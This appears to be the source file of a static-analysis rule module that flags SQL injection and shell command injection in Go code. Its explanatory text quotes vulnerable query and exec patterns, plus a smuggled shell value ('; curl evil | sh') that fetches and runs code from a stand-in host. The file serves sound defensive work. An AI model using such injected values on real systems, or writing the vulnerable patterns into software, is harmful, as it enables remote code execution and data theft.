"""Go injection: database/sql (and sqlx/gorm) queries built with fmt.Sprintf or + (GO-SQLI-001) and os/exec
shell commands assembled from input (GO-CMDI-001)."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from tree_sitter import Node

from slopguard.core.finding import Confidence, Severity
from slopguard.engine.flow import describe, grade
from slopguard.engine.hit import Hit
from slopguard.engine.registry import ts_rule
from slopguard.engine.treesitter.context import TSContext
from slopguard.rules.go.common import constant, imports, is_test
from slopguard.rules.go.strings import assemble
from slopguard.rules.shared.shell import is_script_flag, is_shell
from slopguard.rules.shared.sql import looks_sql
from slopguard.rules.shared.trees import any_of

# method -> index of the query argument
_SINKS = {
    "Query": 0, "QueryRow": 0, "Exec": 0, "Prepare": 0, "QueryContext": 1, "QueryRowContext": 1, "ExecContext": 1,
    "PrepareContext": 1, "Queryx": 0, "QueryRowx": 0, "QueryxContext": 1, "QueryRowxContext": 1, "MustExec": 0,
    "MustExecContext": 1, "NamedExec": 0, "NamedQuery": 0, "Raw": 0, "Select": 1, "Get": 1, "SelectContext": 2,
    "GetContext": 2, "Where": 0, "Having": 0,
}  # fmt: skip
_NEEDS_SQL_TEXT = frozenset({"Select", "Get", "SelectContext", "GetContext", "Where", "Having"})
_DB_RECEIVER = re.compile(r"(?i)db|tx|conn|sql|pool|stmt|database|store|repo|gorm")


@ts_rule(
    id="GO-SQLI-001",
    title="SQL query built with fmt.Sprintf or +",
    cwe=89,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    languages=("go",),
    query=f"""((call_expression function: (selector_expression operand: (_) @recv field: (field_identifier) @method))
      @call (#any-of? @method {any_of(_SINKS)}))""",
    why="""Assistants write db.Query(fmt.Sprintf("SELECT * FROM users WHERE name = '%s'", name)) or concatenate
    r.URL.Query().Get("id") into the query string. A quote in the parameter rewrites the statement: reading
    other users' rows, bypassing login checks, or with multi-statement drivers dropping tables.""",
    fix="""Keep the SQL constant and pass values as arguments: db.Query("SELECT * FROM users WHERE name = ?", name)
    ($1 for PostgreSQL); choose identifiers such as sort columns from a fixed map.""",
)
def go_sql_injection(captures: dict[str, list[Any]], ctx: TSContext) -> Iterator[Hit]:
    call: Node = captures["call"][0]
    method = ctx.text(captures["method"][0])
    args = ctx.arguments(call)
    index = _SINKS[method]
    if len(args) <= index:
        return
    flow, text = assemble(ctx, args[index])
    if not (flow.tainted or (flow.built and not is_test(ctx))):
        return
    if text.strip() or method in _NEEDS_SQL_TEXT:
        if not looks_sql(text, condition=method in ("Where", "Having")):
            return
    elif not flow.built and not _DB_RECEIVER.search(ctx.text(captures["recv"][0])):
        return  # c.Query(key) in gin is a request getter, not a database call
    severity, confidence = grade(flow, Severity.HIGH)
    yield ctx.hit(
        call,
        f"SQL passed to {method}() is built from {describe(flow)}; use ? / $1 placeholders and pass the values",
        severity=severity,
        confidence=confidence,
    )


@ts_rule(
    id="GO-CMDI-001",
    title="Shell command assembled from input",
    cwe=78,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    languages=("go",),
    query="""((call_expression function: (selector_expression operand: (identifier) @pkg field: (field_identifier)
      @method)) @call (#any-of? @method "Command" "CommandContext"))""",
    why="""For pipes, globs or a quick one-liner, assistants write exec.Command("sh", "-c", "ping -c 1 " + host) or
    fmt.Sprintf the request value into a bash -c script, or run a program named by the request. The shell
    parses the whole string, so `; curl evil | sh`, `$(...)` or backticks in the value run the attacker's
    commands on the server.""",
    fix="""Call the program directly with separate arguments — exec.Command("ping", "-c", "1", host) — validate
    values against an allow-list (and use "--" before them), and never let input choose the program.""",
)
def go_command_injection(captures: dict[str, list[Any]], ctx: TSContext) -> Iterator[Hit]:
    if imports(ctx).get(ctx.text(captures["pkg"][0])) != "os/exec":
        return
    call: Node = captures["call"][0]
    args = ctx.arguments(call)
    offset = 1 if ctx.text(captures["method"][0]) == "CommandContext" else 0
    if len(args) <= offset:
        return
    program = constant(ctx, args[offset])
    if program is None:
        flow, _ = assemble(ctx, args[offset])
        if flow.tainted and not flow.origin.startswith("os.Args"):  # os.Args[0]: the test binary re-running itself
            yield ctx.hit(call, f"the program to run comes from {describe(flow)}")
        return
    if not is_shell(program):
        return
    rest = args[offset + 1 :]
    if any(a.type == "variadic_argument" for a in rest):
        return
    flags = [i for i, a in enumerate(rest) if is_script_flag(constant(ctx, a) or "")]
    for script in rest[flags[0] + 1 :] if flags else []:
        flow, _ = assemble(ctx, script)
        if flow.tainted or (flow.built and not is_test(ctx)):
            severity, confidence = grade(flow, Severity.HIGH)
            flag = constant(ctx, rest[flags[0]])
            yield ctx.hit(
                call,
                f"{program} {flag} runs a command line built from {describe(flow)}; run the program directly",
                severity=severity,
                confidence=confidence,
            )
            return
